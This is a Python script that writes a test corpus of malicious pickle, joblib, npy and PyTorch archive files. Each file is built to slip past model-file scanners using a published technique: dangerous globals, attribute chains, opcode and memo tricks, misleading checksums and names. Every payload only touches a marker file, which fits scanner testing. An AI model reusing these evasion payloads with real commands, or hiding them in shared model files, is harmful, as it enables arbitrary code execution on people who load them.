"""Writes pickles that would create a marker file, each a published way past a scanner: `make-hostile.py FOLDER MARKER`.

Prints JSON: `[{name, file, source, fires, inner}]`. `source` is the advisory or the report; `fires` says that plain Python runs it, so that a test
can show that the payload is real; `inner` is the pickle inside an archive, for loaders that open archives themselves. Only the standard library
is needed. The payload never does more than `touch MARKER`.
"""

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import sys
import zipfile
import zlib

OUT, MARKER = sys.argv[1], sys.argv[2]
os.makedirs(OUT, exist_ok=True)
TOUCH = "touch %s" % MARKER
CODE = "open(%r, 'w').close()" % MARKER
CASES = []


def text(value):
    data = value.encode("utf-8")
    return b"X" + struct.pack("<I", len(data)) + data


def short(value):
    return b"\x8c" + bytes([len(value)]) + value.encode("utf-8")


def glob(module, name):
    return ("c%s\n%s\n" % (module, name)).encode("utf-8")


def stack(module, name):
    return short(module) + short(name) + b"\x93"


def value(thing):
    """The opcodes of a plain value, without PROTO and STOP."""
    return pickle.dumps(thing, protocol=2)[2:-1] if not isinstance(thing, Raw) else thing.data


class Raw:
    def __init__(self, data):
        self.data = data


def call(callee, *args):
    return callee + b"(" + b"".join(value(arg) for arg in args) + b"tR"


SYSTEM = call(glob("os", "system"), TOUCH)


def add(name, source, data, fires=False, ending="pkl", inner=None):
    file = "%s.%s" % (name, ending)
    with open(os.path.join(OUT, file), "wb") as out:
        out.write(data)
    inner_file = None
    if inner is not None:
        inner_file = file + ".inner"
        with open(os.path.join(OUT, inner_file), "wb") as out:
            out.write(inner)
    CASES.append({"name": name, "file": file, "source": source, "fires": fires, "inner": inner_file})


def whole(body, protocol=2):
    return b"\x80" + bytes([protocol]) + body + b"."


def gadgets():
    """One call of something that runs, reads or writes."""
    for module, name, args, source, fires in [
        ("os", "system", [TOUCH], "picklescan README", True),
        ("posix", "system", [TOUCH], "picklescan _unsafe_globals", True),
        ("nt", "system", [TOUCH], "picklescan _unsafe_globals", False),
        ("os", "popen", [TOUCH], "modelscan unsafe_globals", True),
        ("os", "execvp", ["touch", ["touch", MARKER]], "modelscan unsafe_globals", False),
        ("os", "spawnvp", [0, "touch", ["touch", MARKER]], "fickling UNSAFE_IMPORTS", True),
        ("subprocess", "check_output", [["touch", MARKER]], "picklescan _unsafe_globals", True),
        ("subprocess", "getoutput", [TOUCH], "modelscan unsafe_globals", True),
        ("subprocess", "Popen", [["touch", MARKER]], "fickling UNSAFE_IMPORTS", True),
        ("builtins", "eval", [CODE], "picklescan README", True),
        ("builtins", "exec", [CODE], "picklescan _unsafe_globals", True),
        ("builtins", "open", [MARKER, "w"], "picklescan _unsafe_globals", True),
        ("builtins", "compile", [CODE, "x", "exec"], "picklescan _unsafe_globals", False),
        ("builtins", "__import__", ["antigravity"], "fickling UNSAFE_IMPORTS", False),
        ("builtins", "breakpoint", [], "picklescan _unsafe_globals", False),
        ("__builtin__", "eval", [CODE], "picklescan _unsafe_globals (Python 2 names)", True),
        ("commands", "getoutput", [TOUCH], "picklescan _unsafe_globals (Python 2 names)", True),
        ("io", "open", [MARKER, "w"], "fickling UNSAFE_IMPORTS", True),
        ("_io", "FileIO", [MARKER, "w"], "GHSA-9726-w42j-3qjr", True),
        ("codecs", "open", [MARKER, "w"], "modelaudit #1059", True),
        ("pty", "spawn", [["touch", MARKER]], "fickling #108", False),
        ("runpy", "_run_code", [CODE, {}], "picklescan _unsafe_globals", True),
        ("runpy", "run_path", [MARKER], "GHSA-5hvc-6wx8-mvv4", False),
        ("pdb", "run", [CODE], "GHSA-4675-36f9-wf6r", False),
        ("bdb", "Bdb", [], "GHSA-4675-36f9-wf6r", False),
        ("cProfile", "run", [CODE], "GHSA-9w88-8rmg-7g2p", True),
        ("cProfile", "runctx", [CODE, {}, {}], "GHSA-9w88-8rmg-7g2p", True),
        ("profile", "run", [CODE], "GHSA-x696-vm39-cp64", True),
        ("timeit", "timeit", ["pass", CODE], "GHSA-v7x6-rv5q-mhwc", True),
        ("doctest", "debug_script", [CODE], "GHSA-fqq6-7vqf-w3fg", False),
        ("ensurepip", "_run_pip", [["--version"]], "GHSA-xp4f-hrf8-rxw7", False),
        ("pip", "main", [["--version"]], "CVE-2025-1716", False),
        ("pip._internal", "main", [["--version"]], "CVE-2025-1716", False),
        ("venv", "create", [MARKER], "GHSA-vqmv-47xg-9wpr", True),
        ("idlelib.calltip", "get_entity", [CODE], "GHSA-7cq8-mj8x-j263", False),
        ("pydoc", "locate", ["os.system"], "GHSA-955r-x9j8-7rhh", False),
        ("pydoc", "pipepager", ["x", TOUCH], "picklescan _unsafe_globals", False),
        ("pkgutil", "resolve_name", ["os:system"], "GHSA-vvpj-8cmc-gx39", False),
        ("importlib", "import_module", ["os"], "picklescan #74", False),
        ("importlib.machinery", "SourceFileLoader", ["x", MARKER], "picklescan #66", False),
        ("distutils.file_util", "write_file", [MARKER, ["x"]], "GHSA-m273-6v24-x4m4", False),
        ("shutil", "copy", ["/dev/null", MARKER], "saferpickle #2", True),
        ("marshal", "loads", [b"N"], "picklescan #74", False),
        ("types", "CodeType", [], "fickling UNSAFE_IMPORTS", False),
        ("types", "FunctionType", [], "fickling UNSAFE_IMPORTS", False),
        ("ctypes", "CDLL", ["libc.so.6"], "picklescan _unsafe_globals", False),
        ("ssl", "get_server_certificate", [["127.0.0.1", 1]], "GHSA-hgrh-qx5j-jfwx", False),
        ("socket", "create_connection", [["127.0.0.1", 1]], "picklescan _unsafe_globals", False),
        ("http.client", "HTTPSConnection", ["127.0.0.1"], "GHSA-hgrh-qx5j-jfwx", False),
        ("requests", "get", ["http://127.0.0.1:1"], "GHSA-hgrh-qx5j-jfwx", False),
        ("aiohttp.client", "ClientSession", [], "GHSA-hgrh-qx5j-jfwx", False),
        ("webbrowser", "open", ["file:///dev/null"], "picklescan _unsafe_globals", False),
        ("smtplib", "SMTP", [], "GHSA-mhc9-48gj-9gp3", False),
        ("imaplib", "IMAP4_stream", [TOUCH], "GHSA-mhc9-48gj-9gp3", False),
        ("signal", "signal", [15, 1], "GHSA-mhc9-48gj-9gp3", False),
        ("socketserver", "TCPServer", [], "GHSA-mhc9-48gj-9gp3", False),
        ("uuid", "_get_command_stdout", ["touch", MARKER], "modelaudit #581", True),
        ("_osx_support", "_read_output", [TOUCH], "GHSA-g38g-8gr9-h9xp", True),
        ("_aix_support", "_read_cmd_output", [TOUCH], "GHSA-g38g-8gr9-h9xp", False),
        ("_pyrepl.pager", "pipe_pager", ["x", TOUCH], "modelaudit #1059", False),
        ("multiprocessing.util", "spawnv_passfds", [b"/usr/bin/touch", ["touch", MARKER], []], "GHSA-7wx9-6375-f5wh", True),
        ("asyncio.unix_events", "_UnixSubprocessTransport", [], "CVE-2025-10157", False),
        ("argparse", "FileType", ["w"], "modelaudit #1059", False),
        ("configparser", "RawConfigParser", [], "modelaudit #1059", False),
        ("sqlite3", "connect", [MARKER], "modelaudit #1061", True),
        ("dbm.dumb", "open", [MARKER, "n"], "modelaudit #1061", False),
        ("zipfile", "ZipFile", [MARKER, "w"], "modelaudit #1061", True),
        ("logging", "FileHandler", [MARKER], "modelaudit #1061", True),
        ("tempfile", "mkdtemp", ["", "", "/tmp"], "modelaudit #1061", False),
        ("collections", "namedtuple", ["x", "a"], "modelaudit #1061", False),
        ("numpy.testing._private.utils", "runstring", [CODE, {}], "GHSA-jgw4-cr84-mqxg", False),
        ("numpy.f2py.crackfortran", "getlincoef", [CODE, []], "fickling #210", False),
        ("numpy.f2py.crackfortran", "_eval_length", [CODE, {}], "fickling #210", False),
        ("numpy.core", "_ufunc_reconstruct", ["os", "system"], "attribute of any module", False),
        ("numpy", "load", [MARKER], "picklescan TODO list", False),
        ("numpy", "memmap", [MARKER, "u1", "w+"], "writes files", False),
        ("numpy.ctypeslib", "load_library", ["x", "/"], "picklescan TODO list", False),
        ("pandas", "read_pickle", [MARKER], "picklescan TODO list", False),
        ("pandas.core.computation.eval", "eval", [CODE], "evaluates text", False),
        ("joblib", "load", [MARKER], "picklescan TODO list", False),
        ("joblib.memory", "Memory", [MARKER], "makes folders", False),
        ("scipy.stats._distn_infrastructure", "rv_continuous_frozen", [], "evaluates its state", False),
        ("torch", "load", [MARKER], "picklescan TODO list", False),
        ("torch.hub", "load", ["x", "y"], "picklescan TODO list", False),
        ("torch.storage", "_load_from_bytes", [b"x"], "torch #52181", False),
        ("torch.serialization", "load", [MARKER], "picklescan _unsafe_globals", False),
        ("torch._dynamo.guards", "GuardBuilder.get", ["x", CODE], "GHSA-f745-w6jp-hpxx", False),
        ("torch._inductor.codecache", "compile_file", ["", "", ["sh", "-c", TOUCH]], "picklescan _unsafe_globals", False),
        ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ["x", CODE], "picklescan _unsafe_globals", False),
        ("torch.jit.unsupported_tensor_ops", "execWrapper", [CODE, {}, {}], "GHSA-86cj-95qr-2p4f", False),
        ("torch.utils._config_module", "ConfigModule.load_config", ["x", b"y"], "picklescan _unsafe_globals", False),
        ("torch.utils.bottleneck.__main__", "run_cprofile", [CODE, {}], "GHSA-4whj-rm5r-c2v8", False),
        ("torch.utils.bottleneck.__main__", "run_autograd_prof", [CODE, {}], "GHSA-4whj-rm5r-c2v8", False),
        ("torch.utils.collect_env", "run", [TOUCH], "picklescan _unsafe_globals", False),
        ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ["pkl", b"N."], "picklescan _unsafe_globals", False),
        ("dill", "loads", [b"N."], "modelscan unsafe_globals", False),
        ("cloudpickle", "loads", [b"N."], "modelscan unsafe_globals", False),
        ("site", "execsitecustomize", [], "modelaudit #1061", False),
        ("builtins", "help", [], "modelaudit #1216", False),
    ]:
        add("call-%s.%s" % (module, name), source, whole(call(glob(module, name), *args)), fires)


def methods():
    """Names with dots in them, which protocol 4 follows from attribute to attribute."""
    for module, name, source in [
        ("trace", "Trace.run", "GHSA-5qwp-399c-mjwf"),
        ("trace", "Trace.runctx", "GHSA-g344-hcph-8vgg"),
        ("profile", "Profile.run", "GHSA-x696-vm39-cp64"),
        ("profile", "Profile.runctx", "GHSA-6vqj-c2q5-j97w"),
        ("code", "InteractiveInterpreter.runcode", "GHSA-3gf5-cxq9-w223"),
        ("idlelib.autocomplete", "AutoComplete.get_entity", "GHSA-6w4w-5w54-rjvr"),
        ("idlelib.autocomplete", "AutoComplete.fetch_completions", "GHSA-7cq8-mj8x-j263"),
        ("idlelib.debugobj", "ObjectTreeItem.SetText", "GHSA-3vg9-h568-4w9m"),
        ("idlelib.pyshell", "ModifiedInterpreter.runcode", "GHSA-3gf5-cxq9-w223"),
        ("idlelib.pyshell", "ModifiedInterpreter.runcommand", "GHSA-j343-8v2j-ff7w"),
        ("idlelib.run", "Executive.runcode", "GHSA-m869-42cg-3xwr"),
        ("lib2to3.pgen2.grammar", "Grammar.loads", "GHSA-f54q-57x4-jg88"),
        ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", "GHSA-p9w7-82w4-7q8m"),
    ]:
        add("method-%s.%s" % (module, name), source, whole(call(stack(module, name), "x", CODE), 4))
    for module, name in [("json", "codecs.open"), ("collections", "_sys.modules"), ("datetime", "sys.exit"), ("re", "enum.sys.modules.__getitem__")]:
        add("dotted-%s.%s" % (module, name), "modelscan #85: attributes of a listed module", whole(call(stack(module, name), MARKER, "w"), 4), name == "codecs.open")


def chains():
    getattr_ = glob("builtins", "getattr")
    os_module = call(glob("importlib", "import_module"), "os")
    add("chain-getattr", "GHSA-vvpj-8cmc-gx39", whole(call(call(getattr_, Raw(os_module), "system"), TOUCH)), True)
    add("chain-methodcaller", "huntr: methodcaller with import_module", whole(call(call(glob("operator", "methodcaller"), "system", TOUCH), Raw(os_module))), True)
    add("chain-attrgetter", "GHSA-955r-x9j8-7rhh", whole(call(call(call(glob("_operator", "attrgetter"), "system"), Raw(os_module)), TOUCH)), True)
    add("chain-itemgetter", "picklescan _unsafe_globals", whole(call(call(glob("operator", "itemgetter"), "eval"), Raw(call(glob("builtins", "vars"), Raw(call(glob("importlib", "import_module"), "builtins")))))), False)
    add("chain-resolve-name", "GHSA-vvpj-8cmc-gx39", whole(call(call(glob("pkgutil", "resolve_name"), "os:system"), TOUCH)), True)
    add("chain-partial", "picklescan: functools.partial", whole(call(call(glob("functools", "partial"), Raw(glob("os", "system"))), TOUCH)), True)
    add("chain-partial-later", "a state replaces what is bound", whole(call(call(glob("functools", "partial"), Raw(glob("builtins", "int"))) + b"(" + glob("os", "system") + b")}Ntb", TOUCH)), False)
    add("chain-map", "modelaudit #1061", whole(call(glob("builtins", "list"), Raw(call(glob("builtins", "map"), Raw(glob("os", "system")), [TOUCH])))), True)
    add("chain-reduce", "modelaudit #1061", whole(call(glob("functools", "reduce"), Raw(glob("os", "system")), [TOUCH])), False)
    add("chain-defaultdict", "modelaudit #1061: factory", whole(call(glob("collections", "defaultdict"), Raw(glob("builtins", "breakpoint")))), False)
    add("chain-nested-loads", "modelscan #267", whole(call(glob("pickle", "loads"), whole(SYSTEM))), True)
    add("chain-nested-_pickle", "GHSA-84r2-jw7c-4r5q", whole(call(glob("_pickle", "loads"), whole(SYSTEM))), True)
    add("chain-type", "a class with a method of its own", whole(call(glob("builtins", "type"), "X", (), {})), False)
    add("chain-add-extension", "extension codes", whole(call(glob("copyreg", "add_extension"), "os", "system", 7) + b"0" + b"\x82\x07" + b"(" + value(TOUCH) + b"tR"), True)
    add("extension-1", "extension codes", whole(b"\x82\x07" + b"(" + value(TOUCH) + b"tR"))
    add("extension-2", "extension codes", whole(b"\x83\x07\x00" + b"(" + value(TOUCH) + b"tR"))
    add("extension-4", "extension codes", whole(b"\x84\x07\x00\x00\x00" + b"(" + value(TOUCH) + b"tR"))


def opcodes():
    args = b"(" + value(TOUCH) + b"t"
    add("opcode-inst", "picklescan: INST", b"(" + b"S'%s'\n" % TOUCH.encode() + b"ios\nsystem\n.", True)
    add("opcode-obj", "fickling #108: OBJ", b"(" + glob("os", "system") + b"S'%s'\n" % TOUCH.encode() + b"o.", True)
    add("opcode-newobj", "NEWOBJ", whole(glob("subprocess", "Popen") + b"(" + value(["touch", MARKER]) + b"t\x81"))
    add("opcode-newobj-ex", "NEWOBJ_EX", whole(glob("subprocess", "Popen") + b"(" + value(["touch", MARKER]) + b"t}\x92", 4))
    add("opcode-stack-global", "protocol 4", whole(stack("os", "system") + args + b"R", 4), True)
    add("opcode-no-proto", "protocol 0 without PROTO", glob("os", "system") + b"(S'%s'\ntR." % TOUCH.encode(), True)
    add("opcode-base-0", "huntr: INT 0x10 stops pickletools", b"\x80\x02I0x10\n0" + SYSTEM + b".", True)
    add("opcode-octal", "INT 010", b"\x80\x02I010\n0" + SYSTEM + b".", True)
    add("opcode-frame", "a frame that lies about its length", b"\x80\x04\x95" + struct.pack("<Q", len(SYSTEM) + 1) + SYSTEM + b".", True)
    add("opcode-no-stop", "GHSA-9gvj-pp9x-gcfr: broken after the payload", b"\x80\x02" + SYSTEM, True)
    add("opcode-garbage", "picklescan: unknown opcode after the payload", b"\x80\x02" + SYSTEM + b"\xff\xff", True)
    add("opcode-second", "a harmless pickle first", whole(b"N") + whole(SYSTEM))
    add("memo-memoize", "picklescan #14", b"\x80\x04" + text("os") + b"q\x00" + text("system") + b"q\x01" + text("torch._utils") + b"\x94" + text("_rebuild_tensor_v2") + b"\x94" + b"0000h\x00h\x01\x93" + args + b"R.", True)
    add("memo-put", "picklescan #22", b"\x80\x04" + text("os") + b"q\x07" + b"0" + text("system") + b"q\x08" + b"0" + text("math") + b"0h\x07h\x08\x93" + args + b"R.", True)
    add("memo-over", "a place that is written twice", b"\x80\x04" + text("collections") + b"q\x00" + b"0" + text("os") + b"q\x00" + b"0h\x00" + text("system") + b"\x93" + args + b"R.", True)
    add("memo-pop", "names that are made by popping", b"\x80\x04" + text("os") + text("collections") + b"0" + text("system") + text("OrderedDict") + b"0\x93" + args + b"R.", True)
    add("memo-dup", "names that are doubled", b"\x80\x04" + text("os") + b"2" + b"0" + text("system") + b"\x93" + args + b"R.", True)
    add("name-computed", "STACK_GLOBAL of a computed text", b"\x80\x04" + call(glob("builtins", "str"), "os") + text("system") + b"\x93" + args + b"R.", True)
    add("name-encoded", "STACK_GLOBAL of bytes", b"\x80\x04" + call(glob("_codecs", "decode"), b"os", "ascii") + text("system") + b"\x93" + args + b"R.", True)
    add("name-escaped", "escapes in a protocol 0 text", b"\x80\x04" + b"S'o\\x73'\n" + text("system") + b"\x93" + args + b"R.", True)
    add("name-unicode", "escapes in a protocol 0 text", b"\x80\x04" + b"V\\u006fs\n" + text("system") + b"\x93" + args + b"R.", True)
    add("name-from-list", "modelscan #85: no text before STACK_GLOBAL", b"\x80\x04]" + text("os") + b"a0" + text("os") + text("system") + b"\x93" + args + b"R.", True)
    add("build-function", "modelscan #85: BUILD on a function", whole(glob("json", "dumps") + b"N}" + text("a") + text("os") + b"s\x86b0" + call(stack("json", "dumps.a"), "x"), 4))
    add("build-class", "attributes of a class are set", whole(glob("collections", "OrderedDict") + b"N}" + text("__setstate__") + glob("builtins", "list") + b"s\x86b", 4))
    add("build-after-reduce", "GHSA-mhc9-48gj-9gp3: REDUCE and BUILD", whole(call(glob("os", "popen"), TOUCH) + b"}b"))
    add("persistent", "an object outside the file", b"\x80\x02" + value("x") + b"Q0" + SYSTEM + b".")
    add("callable-instance", "a value that is called", whole(call(call(glob("collections", "OrderedDict")), TOUCH)))


WRAPPER = glob("joblib.numpy_pickle", "NumpyArrayWrapper")


def dtype(code, state=None):
    made = call(glob("numpy", "dtype"), code, False, True)
    return made if state is None else made + b"(" + b"".join(value(part) for part in state) + b"tb"


def array(shape, kind, before=b"", extra=b"", make=None):
    """joblib's stand-in for an array, up to where its bytes begin."""
    items = text("subclass") + glob("numpy", "ndarray") + text("shape") + shape + text("order") + value("C") + text("dtype") + kind + text("allow_mmap") + b"\x89"
    return before + (make or WRAPPER + b")\x81") + b"}(" + items + extra + b"ub"


def arrays():
    """Files of joblib, where bytes of arrays stand between the opcodes."""
    f8 = dtype("f8", (3, "<", None, None, None, -1, -1, 0))
    hidden = SYSTEM + b"0"
    skip = lambda data: b"B" + struct.pack("<I", len(data))  # noqa: E731
    add("array-objects", "picklescan: pickle in a joblib array", b"\x80\x03" + array(value((1,)), dtype("O8", (3, "|", None, None, None, -1, -1, 63))) + whole(SYSTEM) + b".", ending="joblib")
    add("array-code", "a type of another size than it looks", b"\x80\x03" + array(value((8,)), dtype("d")) + skip(hidden) + hidden + b"\x00" * 59 + b".", ending="joblib")
    add("array-element-size", "a type that contradicts itself", b"\x80\x03" + array(value((1,)), dtype("V8", (3, "|", None, None, None, 4, 1, 0))) + skip(hidden)[:4] + hidden + b".", ending="joblib")
    add("array-twice", "a shape that is given twice", b"\x80\x03" + array(value((1,)), f8, extra=b"S'sh\\x61pe'\n" + value((0,))) + skip(hidden)[:4] + b"\0\0\0" + hidden + b".", ending="joblib")
    add("array-negative", "a shape below nothing", b"\x80\x03" + array(value((-1, -1)), f8) + b"\0" * 8 + hidden + b".", ending="joblib")
    add("array-new-index", "pandas makes the stand-in", b"\x80\x03" + array(value((4,)), f8, make=call(glob("pandas.core.indexes.base", "_new_Index"), Raw(WRAPPER), {})) + skip(b"x" * 27) + b"\0" * 27 + hidden + b".", ending="joblib")
    add("array-partial", "partial makes the stand-in", b"\x80\x03" + array(value((4,)), f8, make=call(call(glob("functools", "partial"), Raw(WRAPPER)), Raw(glob("numpy", "ndarray")), (1,), "C", None)) + b"\0" * 32 + hidden + b".", ending="joblib")
    add("array-padding", "padding that is no number", b"\x80\x03" + array(value((0,)), f8, extra=text("numpy_array_alignment_bytes") + b"\x88") + b"\x01\x00" + hidden + b".", ending="joblib")
    add("array-after", "a call after an array", b"\x80\x03" + array(value((1,)), f8) + b"\0" * 8 + b"0" + SYSTEM + b".", ending="joblib")
    add("array-polyglot", "bytes of an array that plain pickle runs", b"\x80\x03" + array(value((1 + len(SYSTEM) // 8,)), f8) + (SYSTEM + b"." + b"\0" * 8)[: 8 * (1 + len(SYSTEM) // 8)].ljust(8 * (1 + len(SYSTEM) // 8), b"\0") + b".", False, ending="joblib")
    add("array-old-wrapper", "joblib before 0.10 reads other files", whole(call(glob("joblib.numpy_pickle_compat", "NDArrayWrapper"), "x.npy", Raw(glob("numpy", "ndarray")))), ending="joblib")


def compressed():
    body = whole(SYSTEM)
    for name, data in [("zlib", zlib.compress(body)), ("gzip", gzip.compress(body)), ("bz2", bz2.compress(body)), ("xz", lzma.compress(body)), ("lzma", lzma.compress(body, format=lzma.FORMAT_ALONE)), ("lz4", lz4_frame(body))]:
        add("packed-%s" % name, "joblib's compressors", data, ending="joblib")
    add("packed-gzip-checksum", "CVE-2025-10156: a wrong checksum", gzip.compress(body)[:-8] + b"\0" * 8, ending="joblib")
    add("packed-gzip-members", "a pickle in two members", gzip.compress(body[:10]) + gzip.compress(body[10:]), ending="joblib")
    add("packed-xz-checksum", "a wrong checksum", lzma.compress(body)[:-14] + b"\0" * 14, ending="joblib")
    add("packed-other-name", "a name that lies", gzip.compress(body), ending="pkl")


def lz4_frame(body):
    """One block that is not compressed."""
    return b"\x04\x22\x4d\x18\x60\x40\x82" + struct.pack("<I", len(body) | 0x80000000) + body + b"\0\0\0\0"


def npy(body):
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    head += b" " * (118 - len(head) - 1) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + body


def zipped(members, **options):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", **options) as file:
        for name, data in members:
            file.writestr(zipfile.ZipInfo(name), data)
    return out.getvalue()


def archives():
    body, fine = whole(SYSTEM), whole(b"}")
    plain = zipped([("archive/data.pkl", body), ("archive/version", b"3\n")])
    add("torch-zip", "torch.save", plain, ending="pt", inner=body)
    add("torch-zip-deflated", "torch.save, packed", deflated([("archive/data.pkl", body)]), ending="pt", inner=body)
    add("torch-case", "huntr: DATA.PKL", zipped([("poc/DATA.PKL", body)]), ending="pt", inner=body)
    add("torch-storage-name", "modelaudit #1043: a pickle among the weights", zipped([("archive/data.pkl", fine), ("archive/data/0", body)]), ending="pt", inner=body)
    add("torch-duplicate", "huntr: data.pkl twice", zipped([("archive/data.pkl", body), ("archive/data.pkl", fine)]), ending="pt", inner=body)
    add("torch-crc", "CVE-2025-10156", plain.replace(struct.pack("<I", zlib.crc32(body)), b"\0\0\0\0"), ending="pt", inner=body)
    flags = bytearray(plain)
    flags[6] |= 1
    flags[plain.index(b"PK\x01\x02") + 8] |= 1
    add("torch-flags", "CVE-2025-1945", bytes(flags), ending="pt", inner=body)
    add("torch-local-name", "CVE-2025-1944: the directory says another name", plain.replace(b"archive/data.pkl", b"archive/data.txt", 1), ending="pt", inner=body)
    hidden = zipped([("archive/data.pkl", fine)])
    first = zipped([("archive/data.pkl", body)])
    add("torch-hidden", "huntr: a member that the directory does not list", hidden_member(first, hidden), ending="pt", inner=body)
    add("torch-prefix", "bytes before the archive", b"x" * 10 + plain, ending="pt", inner=body)
    add("torch-other-name", "CVE-2025-10155: a name that lies", plain, ending="txt", inner=body)
    add("torch-nested", "an archive in an archive", zipped([("inner.pt", plain)]), ending="zip", inner=body)
    add("torch-legacy", "huntr: magic number first", pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2) + body, ending="pth", inner=body)
    add("torch-base-0", "huntr: INT 0x10 in data.pkl", zipped([("archive/data.pkl", b"\x80\x02I0x10\n0" + SYSTEM + b".")]), ending="pt", inner=body)
    add("numpy-objects", "picklescan: .npy", npy(body), ending="npy", inner=body)
    add("numpy-objects-name", "a name that lies", npy(body), ending="bin", inner=body)
    add("numpy-archive", "picklescan: .npz", zipped([("x.npy", npy(body))]), ending="npz", inner=body)
    add("plain-other-name", "CVE-2025-10155: a name that lies", body, ending="txt")
    add("plain-no-ending", "a name that lies", body, ending="weights")


def deflated(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in members:
            file.writestr(name, data)
    return out.getvalue()


def hidden_member(first, second):
    """The members of both, and the directory of the second."""
    kept = first[: first.index(b"PK\x01\x02")]
    at = second.index(b"PK\x01\x02")
    directory, end = bytearray(second[at : second.index(b"PK\x05\x06")]), bytearray(second[second.index(b"PK\x05\x06") :])
    directory[42:46] = struct.pack("<I", len(kept))
    end[16:20] = struct.pack("<I", len(kept) + at)
    return kept + second[:at] + bytes(directory) + bytes(end)


gadgets()
methods()
chains()
opcodes()
arrays()
compressed()
archives()
json.dump(CASES, sys.stdout, indent=1)
